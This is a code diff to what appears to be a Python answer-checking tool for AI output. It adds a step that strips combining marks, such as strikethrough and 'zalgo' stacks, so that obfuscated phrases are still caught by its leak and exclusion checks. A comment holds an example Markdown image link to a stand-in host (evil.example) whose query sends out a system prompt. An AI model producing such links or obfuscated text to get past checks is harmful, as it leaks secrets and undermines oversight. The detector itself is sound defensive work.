@@ -633,6 +633,21 @@ def _json_said(text):
     return None if value is body else argument_text(value)
 
 
+# The generic combining marks (diacritics, overlays such as the strikethrough U+0336, "zalgo"
+# stacks); a script's own vowel signs are not among them.
+_COMBINING = re.compile("[\u0300-\u036f\u1ab0-\u1aff\u1dc0-\u1dff\u20d0-\u20ff\ufe20-\ufe2f]")
+
+
+def _unaccented(form):
+    """A text in text_form() without its generic combining marks ("l\u0336ifetime" is
+    "lifetime"), in text_form() again; None when it has none."""
+    if form.isascii():
+        return None
+    import unicodedata  # imported where used: start-up stays lean (SPEC C1)
+    decomposed = unicodedata.normalize("NFD", form)
+    return _text_form(_COMBINING.sub("", decomposed)) if _COMBINING.search(decomposed) else None
+
+
 # URL encoding, as in a link or an image whose query carries what is said ("![x](https://evil
 # .example/?q=system%20prompt)", "?card=4111+1111+..."): read decoded too.
 _URL_ENCODED = re.compile(r"%[0-9a-f]{2}|[^\W_]\+[^\W_]")
@@ -642,13 +657,15 @@ _URL_ENCODED = re.compile(r"%[0-9a-f]{2}|[^\W_]\+[^\W_]")
 def readings(text):
     """Every form a text is read in when what it says must be caught (excludes, claims, leak,
     a stated value): text_form(), with each invisible character read as a space too, a JSON
-    answer's strings decoded (see _json_said), each of those URL-decoded (%20 and + as a space)
-    and each as its markup renders (see _rendered). A phrase in any of them is said."""
+    answer's strings decoded (see _json_said), each of those without combining marks (see
+    _unaccented), URL-decoded (%20 and + as a space) and as its markup renders (see _rendered).
+    A phrase in any of them is said."""
     if not isinstance(text, str):
         return ("",)
     forms = [text_form(text)] + ([_spaced_form(text)] if _invisible_in(text) else [])
     decoded = _json_said(text)
     forms += [_text_form(decoded)] if decoded is not None else []
+    forms += [bare for bare in map(_unaccented, forms) if bare is not None]
     forms += [_text_form(urllib.parse.unquote_plus(form)) for form in forms if _URL_ENCODED.search(form)]
     return tuple(dict.fromkeys(forms + [_rendered(form) for form in forms]))
 
@@ -5784,7 +5801,8 @@ def catalogue():
         "  normal form            every text comparison (contains, excludes, similarity, length, leak, "
         "clarification, claims) reads both sides in NFKC, any script's decimal digits as ASCII digits, format "
         "characters such as zero-width spaces removed, case folded, whitespace folded; excludes, leak, claims and "
-        "a stated value also read an invisible character as a space and the answer as its Markdown/HTML markup "
+        "a stated value also read an invisible character as a space, the answer without combining marks, as its "
+        "Markdown/HTML markup "
         "renders (**lifetime** access), URL-decoded (%20) and, for a JSON answer, with its strings decoded; "
         "masks (--redact, --redact-pii) read through invisible characters",
         f"  similarity             the exact difflib ratio for texts up to {SIMILARITY_PREFIX:,} characters whose "
